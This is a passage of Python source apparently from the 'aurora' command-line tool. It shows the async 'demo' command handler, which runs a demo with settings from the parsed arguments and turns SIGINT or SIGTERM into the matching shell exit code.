    out(f"Demo finished in {time.monotonic() - started:.1f} s.")
    return 0


async def cmd_demo(settings: Settings, args: argparse.Namespace) -> int:
    """``aurora demo``: see the module docstring. SIGINT or SIGTERM cut it short; it still stops
    its agents and removes its data directory on the way out."""
    from gateway.launcher import Stopped

    if not args.verbose:
        logging.getLogger().setLevel(logging.WARNING)

    def out(line: str) -> None:
        print(line, flush=True)

    try:
        return await run_demo(
            settings,
            data=args.data,
            builtin=args.builtin,
            keep=args.keep,
            verbose=args.verbose,
            time_limit=args.timeout,
            out=out,
        )
    except Stopped as stopped:
        if stopped.signum == signal.SIGTERM:
            print("aurora demo: terminated", file=sys.stderr)
        return 128 + stopped.signum
